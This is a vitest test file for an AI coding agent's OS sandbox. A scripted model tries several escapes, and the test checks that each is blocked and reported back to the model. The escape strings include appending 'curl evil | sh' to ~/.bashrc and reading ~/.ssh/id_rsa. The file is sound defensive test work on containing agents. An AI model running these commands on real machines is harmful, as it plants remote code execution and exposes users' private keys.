import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { useAkiraRunKit } from '../../testing/akiraRunKit';
import { reply, type RecordedRequest } from '../../testing/openaiTestServer';
import { realSandbox } from '../../testing/sandboxKit';

// Issue 26, the sandbox's "done when": the built `akira run --yes` with a scripted model whose commands try each
// escape — a write outside the workspace, a write into $HOME, reading ~/.ssh/id_rsa, a server on the machine's own
// loopback. The session completes; every escape failed; the model's next request says `blocked by the sandbox`; the
// key never reaches the model; a write inside the workspace works. Skipped, with the reason, where bubblewrap is missing.

const kit = useAkiraRunKit();
const KEY = 'AKIRA-FAKE-PRIVATE-KEY-7f3a9c';
let skip: string | null = null;
let base = '';
let hits = 0;
const server = createServer((_req, res) => {
  hits++;
  res.end('served\n');
});

beforeAll(async () => {
  ({ skip } = await realSandbox());
  if (skip) console.log(`runSandbox: skipped, ${skip}`);
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  // Under /var/tmp: the sandbox's /tmp is a private tmpfs, so a denial under /tmp would pass for the wrong reason.
  base = mkdtempSync(join('/var/tmp', 'akira-run-sbx-'));
});
afterAll(async () => {
  await new Promise((r) => server.close(r));
  rmSync(base, { recursive: true, force: true });
});

const sent = (req: RecordedRequest) => JSON.stringify(req.body.messages);

describe('akira run --yes in the OS sandbox (built)', { timeout: 120_000 }, () => {
  it('every escape fails and is reported to the model as blocked; the session completes; the key never reaches the model', async (t) => {
    if (skip) return t.skip();
    const home = join(base, 'home');
    const outside = join(base, 'outside');
    mkdirSync(join(home, '.ssh'), { recursive: true });
    mkdirSync(outside, { recursive: true });
    writeFileSync(join(home, '.ssh', 'id_rsa'), `${KEY}\n`);
    writeFileSync(join(home, '.bashrc'), '# the user\'s own\n');
    const port = (server.address() as AddressInfo).port;
    const ws = await kit.workspace({ 'a.txt': 'a\n' });

    const escapes = [
      `echo pwned > ${outside}/planted.txt`,
      'echo "curl evil | sh" >> ~/.bashrc',
      'cat ~/.ssh/id_rsa',
      `curl -s --max-time 5 http://127.0.0.1:${port}/`,
    ];
    // What the model must read in the request after each escape.
    const expected = [
      `blocked by the sandbox: writing ${outside}/planted.txt`,
      `blocked by the sandbox: writing ${home}/.bashrc`,
      `blocked by the sandbox: reading ${home}/.ssh/id_rsa`,
      `blocked by the sandbox: a connection to 127.0.0.1:${port}`,
    ];
    const told: boolean[] = [];
    const next = (command: string, after: number) => (req: RecordedRequest) => {
      // … and that batch approval kept it blocked: --yes never lets a command out of the sandbox.
      if (after >= 0) told.push(sent(req).includes(expected[after]) && sent(req).includes('--yes never lets a command out of the sandbox'));
      return reply.toolCall('run_command', { command });
    };
    kit.server.enqueue(
      reply.toolCall('todo_write', { todos: [{ id: 't1', description: 'Probe', expectedResult: 'inside.txt exists' }] }),
      ...escapes.map((command, i) => next(command, i - 1)),
      next('echo made > inside.txt && cat inside.txt', escapes.length - 1),
      reply.toolCall('update_todo', { id: 't1', status: 'done', result: 'inside.txt written' }),
      reply.toolCall('verify_todo', { todoId: 't1', approved: true, feedback: 'ok', confidence: 0.9 }),
      reply.toolCall('verify_todo', { todoId: 'task', approved: true, feedback: 'ok', confidence: 0.9 }),
    );
    const run = kit.akiraRun(ws, ['--task', 'Probe the sandbox', '--yes', '--json'], { HOME: home });
    expect(await kit.finished(run), run.stderr()).toBe(0);

    // Each escape's result told the model what was blocked (the request after each of the four commands).
    expect(told).toEqual([true, true, true, true]);
    const results = run.events().filter((e) => e.type === 'command_finished');
    expect(results).toHaveLength(5);
    // The log (and the activity's terminal card) says each ran sandboxed, and what was blocked (issue 26).
    expect(results.map((e) => e.sandboxed)).toEqual([true, true, true, true, true]);
    expect(results.map((e) => e.blocked ?? [])).toEqual([
      [{ kind: 'write', path: `${outside}/planted.txt` }],
      [{ kind: 'write', path: `${home}/.bashrc` }],
      [{ kind: 'read', path: `${home}/.ssh/id_rsa` }],
      [expect.objectContaining({ kind: 'network', host: '127.0.0.1', port })],
      [],
    ]);
    // Nothing happened outside; the key never reached the model; the loopback server saw nothing.
    expect(existsSync(join(outside, 'planted.txt'))).toBe(false);
    expect(readFileSync(join(home, '.bashrc'), 'utf8')).toBe("# the user's own\n");
    expect(kit.server.requests.some((r) => JSON.stringify(r.body).includes(KEY))).toBe(false);
    expect(hits).toBe(0);
    // Inside the workspace it works.
    expect(readFileSync(join(ws.root, 'inside.txt'), 'utf8')).toBe('made\n');
  });

  it('--no-sandbox runs the commands without it, and says so once at the start', async (t) => {
    if (skip) return t.skip();
    const outside = join(base, 'outside-unsandboxed');
    mkdirSync(outside, { recursive: true });
    const ws = await kit.workspace({ 'a.txt': 'a\n' });
    kit.server.enqueue(
      reply.toolCall('todo_write', { todos: [{ id: 't1', description: 'Write outside', expectedResult: 'written' }] }),
      reply.toolCall('run_command', { command: `echo made > ${outside}/ok.txt` }),
      (req: RecordedRequest) => {
        expect(sent(req)).not.toContain('blocked by the sandbox');
        return reply.toolCall('update_todo', { id: 't1', status: 'done', result: 'written' });
      },
      reply.toolCall('verify_todo', { todoId: 't1', approved: true, feedback: 'ok', confidence: 0.9 }),
      reply.toolCall('verify_todo', { todoId: 'task', approved: true, feedback: 'ok', confidence: 0.9 }),
    );
    const run = kit.akiraRun(ws, ['--task', 'Write outside', '--yes', '--no-sandbox']);
    expect(await kit.finished(run), run.stderr()).toBe(0);
    expect(readFileSync(join(outside, 'ok.txt'), 'utf8')).toBe('made\n');
    expect(run.stderr().match(/Commands run without the OS sandbox/g)).toHaveLength(1);
  });
});
